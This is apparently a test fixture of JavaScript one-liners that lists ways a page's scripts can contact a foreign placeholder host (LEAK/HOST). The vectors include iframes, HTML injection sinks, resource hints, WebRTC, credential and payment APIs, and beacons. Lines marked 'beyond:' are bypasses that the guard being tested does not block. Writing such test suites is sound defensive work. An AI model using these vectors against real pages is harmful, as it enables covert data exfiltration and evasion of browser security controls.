// Ways in which a page's own scripts may contact a foreign host. Each is one function below its name; LEAK is the address of
// a page at the host that tells which way it was, HOST the host alone. After "beyond:" come those
// that the guard does not stop, for which the allow-list is.

// frame made and put in
const f = document.createElement('iframe'); f.src = 'LEAK'; document.body.append(f);
// frame put in and then aimed
const f = document.createElement('iframe'); document.body.append(f); f.src = 'LEAK';
// frame aimed by setAttribute
const f = document.createElement('iframe'); f.setAttribute('src', 'LEAK'); document.body.append(f);
// frame aimed by setAttribute in capitals
const f = document.createElement('IFRAME'); f.setAttribute('SRC', '//HOST/'); document.body.append(f);
// frame aimed by setAttributeNS
const f = document.createElement('iframe'); f.setAttributeNS(null, 'src', 'LEAK'); document.body.append(f);
// frame aimed by setAttributeNode
const f = document.createElement('iframe'); const a = document.createAttribute('src'); a.value = 'LEAK'; f.setAttributeNode(a); document.body.append(f);
// frame aimed by setAttribute with one value too many
const f = document.createElement('iframe'); f.setAttribute('src', 'LEAK', 0); document.body.append(f);
// frame aimed by setAttributeNodeNS
const f = document.createElement('iframe'); const a = document.createAttributeNS(null, 'src'); a.value = 'LEAK'; f.setAttributeNodeNS(a); document.body.append(f);
// beyond: frame aimed by the value of an attribute
const f = document.createElement('iframe'); f.setAttribute('src', 'about:blank'); document.body.append(f); f.getAttributeNode('src').value = 'LEAK';
// beyond: frame aimed by the node value of an attribute
const f = document.createElement('iframe'); f.setAttribute('src', 'about:blank'); document.body.append(f); f.attributes.src.nodeValue = 'LEAK';
// frame by innerHTML
document.body.innerHTML = '<p>Text<iframe src="LEAK"></iframe>';
// beyond: frame by innerHTML, of an array
document.body.innerHTML = ['<p>Text', '<iframe src="LEAK"></iframe>'];
// frame by innerHTML where a library gives texts more methods
String.prototype.toJSON = function() { return this; }; document.body.innerHTML = '<iframe src="LEAK"></iframe>';
// frame by innerHTML with references
document.body.innerHTML = "<iframe title='a>b' src=https&colon;//&#72;&#79;ST/></iframe>".replace('&#72;&#79;ST', 'HOST');
// frame by outerHTML
const p = document.createElement('p'); document.body.append(p); p.outerHTML = '<iframe/src=LEAK></iframe>';
// frame by insertAdjacentHTML
document.body.insertAdjacentHTML('beforeend', "<iframe src='LEAK'></iframe>");
// frame beside a script by insertAdjacentHTML
const s = document.createElement('script'); document.body.append(s); s.insertAdjacentHTML('afterend', '<iframe src="LEAK"></iframe>');
// frame in a script's place by outerHTML
const s = document.createElement('script'); document.body.append(s); s.outerHTML = '<iframe src="LEAK"></iframe>';
// frame by document.write
document.write('<iframe src="LEAK"></iframe>');
// frame by document.write in parts
document.write('<ifr'); document.write('ame src="https:'); document.write('//HOST/"></iframe>');
// frame by document.writeln with several values
document.writeln('<iframe ', 'src="', 'LEAK', '"></iframe>');
// frame by createContextualFragment
document.body.append(document.createRange().createContextualFragment('<iframe src="LEAK"></iframe>'));
// frame by DOMParser
document.body.append(new DOMParser().parseFromString('<iframe src="LEAK"></iframe>', 'text/html').body.firstChild);
// frame by a template
const t = document.createElement('template'); t.innerHTML = '<iframe src="LEAK"></iframe>'; document.body.append(t.content.cloneNode(true));
// frame by setHTMLUnsafe
document.body.setHTMLUnsafe('<iframe src="LEAK"></iframe>');
// frame by parseHTMLUnsafe
document.body.append(Document.parseHTMLUnsafe('<iframe src="LEAK"></iframe>').body.firstChild);
// beyond: frame by execCommand
document.body.contentEditable = true; document.body.focus(); getSelection().selectAllChildren(document.body); document.execCommand('insertHTML', false, '<iframe src="LEAK"></iframe>');
// frame in a shadow root
const p = document.createElement('p'); document.body.append(p); p.attachShadow({mode: 'open'}).innerHTML = '<iframe src="LEAK"></iframe>';
// frame in srcdoc
const f = document.createElement('iframe'); f.srcdoc = '<iframe src="LEAK"></iframe>'; document.body.append(f);
// frame in srcdoc by innerHTML
document.body.innerHTML = '<iframe srcdoc="<iframe src=LEAK></iframe>"></iframe>';
// beyond: frame by a script in srcdoc
const f = document.createElement('iframe'); f.srcdoc = '<body><script>document.body.append(Object.assign(document.createElement("iframe"), {src: "LEAK"}))</scr' + 'ipt>'; document.body.append(f);
// frame by the script of a frame in srcdoc
const f = document.createElement('iframe'); f.srcdoc = '<body>'; f.onload = () => { f.contentDocument.body.innerHTML = '<iframe src="LEAK"></iframe>'; }; document.body.append(f);
// frame in a fresh frame's document
const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.write('<iframe src="LEAK"></iframe>');
// frame in a fresh frame's window
const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.document.body.innerHTML = '<iframe src="LEAK"></iframe>';
// frame in a fresh frame by its number
const f = document.createElement('iframe'); document.body.append(f); frames[0].document.write('<iframe src="LEAK"></iframe>');
// frame in a javascript address
const f = document.createElement('iframe'); f.src = 'javascript:"<iframe src=LEAK></iframe>"'; document.body.append(f);
// beyond: frame in a blob
const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<iframe src="LEAK"></iframe>'], {type: 'text/html'})); document.body.append(f);
// frame by a fresh frame's own setter
const f = document.createElement('iframe'); document.body.append(f); const g = f.contentDocument.createElement('iframe'); document.body.append(g); g.src = 'LEAK';
// beyond: frame in a frameset
document.body.outerHTML = '<frameset><frame src="LEAK"></frameset>';
// frame aimed by open
const f = document.createElement('iframe'); f.name = 'aimed'; document.body.append(f); open('LEAK', 'aimed');
// frame aimed by a form
const f = document.createElement('iframe'); f.name = 'aimed'; const o = document.createElement('form'); o.target = 'aimed'; o.action = 'LEAK'; document.body.append(f, o); o.submit();
// frame aimed by a form's request
const f = document.createElement('iframe'); f.name = 'aimed'; const o = document.createElement('form'); o.target = 'aimed'; o.action = 'LEAK'; document.body.append(f, o); o.requestSubmit();
// frame aimed by a link
const f = document.createElement('iframe'); f.name = 'aimed'; const a = document.createElement('a'); a.target = 'aimed'; a.href = 'LEAK'; document.body.append(f, a); a.click();
// beyond: frame aimed by the button of a form
const f = document.createElement('iframe'); f.name = 'aimed'; const o = document.createElement('form'); const b = document.createElement('button'); b.formTarget = 'aimed'; b.formAction = 'LEAK'; o.append(b); document.body.append(f, o); b.click();
// beyond: frame aimed by its window's own open
const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.open('LEAK', '_self');
// object made and put in
const o = document.createElement('object'); o.type = 'text/html'; o.data = 'LEAK'; document.body.append(o);
// embed made and put in
const e = document.createElement('embed'); e.type = 'text/html'; e.src = 'LEAK'; document.body.append(e);
// hint: preconnect
const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'LEAK'; document.head.append(l);
// hint: preconnect, the address first
const l = document.createElement('link'); l.href = 'LEAK'; document.head.append(l); l.rel = 'preconnect';
// hint: preconnect by setAttribute
const l = document.createElement('link'); l.setAttribute('rel', 'stylesheet PreConnect'); l.setAttribute('href', 'LEAK'); document.head.append(l);
// beyond: preconnect by the list
const l = document.createElement('link'); l.href = 'LEAK'; document.head.append(l); l.relList.add('preconnect');
// hint: preconnect by innerHTML
document.body.innerHTML = '<link rel="preconnect" href="LEAK">';
// hint: preconnect by document.write
document.write('<link href=LEAK rel=preconnect>');
// hint: dns-prefetch
const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//HOST'; document.head.append(l);
// hint: preconnect in a fresh frame
const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.body.innerHTML = '<link rel="preconnect" href="LEAK">';
// hint: dns-prefetch by insertAdjacentHTML
document.head.insertAdjacentHTML('beforeend', '<link rel="dns-prefetch" href="LEAK">');
// prefetching turned on
document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'x-dns-prefetch-control', content: 'on'})); document.body.innerHTML = '<a href="LEAK">Text</a>';
// speculation rules
const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{"prefetch":[{"source":"list","urls":["LEAK"]}],"prerender":[{"source":"list","urls":["LEAK"]}]}'; document.head.append(s);
// WebRTC
const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST:3478'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o));
// WebRTC, its servers set later
const c = new RTCPeerConnection(); c.setConfiguration({iceServers: [{urls: 'stun:HOST:3478'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o));
// WebAuthn
navigator.credentials.get({publicKey: {challenge: new Uint8Array(8), rpId: 'HOST'}}).catch(() => {});
// identity provider
navigator.credentials.get({identity: {providers: [{configURL: 'LEAKfedcm.json', clientId: '1'}]}}).catch(() => {});
// payment
new PaymentRequest([{supportedMethods: 'LEAKpay'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => {});
// fetch, socket, beacon, picture, script, style
fetch('LEAK').catch(() => {}); new WebSocket('wss://HOST/'); navigator.sendBeacon('LEAK'); new Image().src = 'LEAK'; document.head.append(Object.assign(document.createElement('script'), {src: 'LEAK'})); document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'LEAK'}));
// beyond: frame aimed past its class
const f = document.createElement('iframe'); Element.prototype.setAttribute.call(f, 'src', 'LEAK'); document.body.append(f);
// beyond: frame's location
const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = 'LEAK';
// beyond: frame's location by its number
const f = document.createElement('iframe'); document.body.append(f); window[0].location.href = 'LEAK';
// beyond: frame in a fresh frame by the window's number
const f = document.createElement('iframe'); document.body.append(f); window[0].document.write('<iframe src="LEAK"></iframe>');
// beyond: frame aimed by setNamedItem
const f = document.createElement('iframe'); const a = document.createAttribute('src'); a.value = 'LEAK'; f.attributes.setNamedItem(a); document.body.append(f);
